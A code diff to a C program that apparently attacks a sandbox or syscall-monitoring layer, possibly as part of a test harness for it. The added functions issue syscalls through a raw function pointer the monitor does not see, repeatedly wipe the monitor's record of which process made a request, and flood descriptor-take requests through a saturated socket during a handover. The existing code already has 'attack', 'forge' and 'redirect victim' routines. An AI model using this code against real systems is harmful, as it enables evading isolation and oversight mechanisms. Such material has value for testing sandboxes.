@@ -201,6 +201,14 @@ static bool forge(pid_t parent)
 	return false;
 }
 
+/* A call that the inside does not see: in a follower, too, it is made. */
+static long raw(long nr, long a, long b, long c, long d, long e)
+{
+	char *sign = memmem(inside.at, inside.len, REQUEST_SIGN, REQUEST_SIGN_LEN);
+
+	return ((sleep_call *)(sign - 25))(nr, a, b, c, d, e, NULL);
+}
+
 /* Asks by itself, in its own slot, with what it likes; the answer, or -EAGAIN. */
 static int64_t ask(uint32_t kind, const uint64_t args[6])
 {
@@ -209,7 +217,7 @@ static int64_t ask(uint32_t kind, const uint64_t args[6])
 	static struct request r;
 	const struct boot *boot = boot_find();
 	struct timespec look = { 0, 50000000 };
-	pid_t me = getpid();
+	pid_t me = (pid_t)raw(SYS_getpid, 0, 0, 0, 0, 0);
 
 	for (unsigned i = 0; boot && i < AREA_THREADS; i++) {
 		uint32_t *word = &((struct brief *)brief.at)->answer[i];
@@ -315,6 +323,49 @@ static bool tell(pid_t parent)
 	return !told || streams_others() || streams_opened(parent);
 }
 
+/* Where the monitor looks for who asks: nobody is there, again and again, and at the end. */
+static bool hide(void)
+{
+	struct area *a = (struct area *)area.at;
+
+	for (unsigned round = 0; round < 200; round++) {
+		for (unsigned i = 0; i < 64; i++)
+			slots()[i].holder = 0;
+		a->slots_high = 0;
+		usleep(10000);
+	}
+	return false;
+}
+
+/*
+ * When another version takes over: each process' descriptors are asked for, again and again,
+ * through a socket without room, which waits as long as another process of ours says.
+ */
+static bool take(void)
+{
+	const struct boot *boot = boot_find();
+	const struct timeval ever = { 0, 0 };
+	int pair[2], size = 1;
+	char text[512] = "";
+
+	if (!boot || raw(SYS_socketpair, AF_UNIX, SOCK_SEQPACKET, 0, (long)pair, 0))
+		return true;
+	raw(SYS_setsockopt, pair[1], SOL_SOCKET, SO_SNDBUF, (long)&size, sizeof(size));
+	while (raw(SYS_sendto, pair[1], (long)text, sizeof(text), MSG_DONTWAIT, 0) > 0)
+		;
+	if (!raw(SYS_fork, 0, 0, 0, 0, 0)) {
+		while (raw(SYS_getppid, 0, 0, 0, 0, 0) != 1)
+			raw(SYS_setsockopt, pair[1], SOL_SOCKET, SO_SNDTIMEO, (long)&ever,
+			    sizeof(ever));
+		raw(SYS_exit, 0, 0, 0, 0, 0);
+	}
+	for (unsigned round = 0; raw(SYS_access, (long)"DONE", F_OK, 0, 0, 0); round++)
+		ask(REQ_TAKE, (uint64_t[6]){ (uint64_t)pair[1], 0, 0, 0, 0,
+			    round % 3 ? round % 3 * LANES : 0 });
+	raw(SYS_exit_group, 0, 0, 0, 0, 0);
+	return true;
+}
+
 /* When there is a file GO: its own child's slot is the victim's. */
 static bool redirect(pid_t victim)
 {
@@ -363,6 +414,10 @@ static bool attack(const char *how, pid_t parent, pid_t victim, uint64_t count)
 		return name(victim);
 	if (!strcmp(how, "claim"))
 		return claim();
+	if (!strcmp(how, "hide"))
+		return hide();
+	if (!strcmp(how, "take"))
+		return take();
 	if (!strcmp(how, "tell"))
 		return tell(parent);
 	if (!strcmp(how, "lanes"))
@@ -417,6 +472,16 @@ static uint64_t state(void)
 	       hash(target, TARGET);
 }
 
+/* New code, for which the inside asks the monitor. */
+static int code_map(void)
+{
+	int fd = open("/bin/true", O_RDONLY | O_CLOEXEC);
+	void *at = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+
+	close(fd);
+	return at == MAP_FAILED ? -1 : munmap(at, 4096);
+}
+
 static int program_run(void)
 {
 	pid_t pid = vfork();
@@ -441,7 +506,7 @@ static void answer(int fd, const char *line, uint64_t begun, pid_t worker_pid)
 	if (!strncmp(line, "check", 5))
 		n = snprintf(text, sizeof(text), "%s\n", state() == begun ? "whole" : "changed");
 	else if (!strncmp(line, "exec", 4))
-		n = snprintf(text, sizeof(text), "%d\n", program_run());
+		n = snprintf(text, sizeof(text), "%d\n", code_map() | program_run());
 	else if (!strncmp(line, "term", 4))
 		n = snprintf(text, sizeof(text), "%d\n", *sleeper ? kill(*sleeper, SIGTERM) : -1);
 	else if (!strncmp(line, "over", 4))
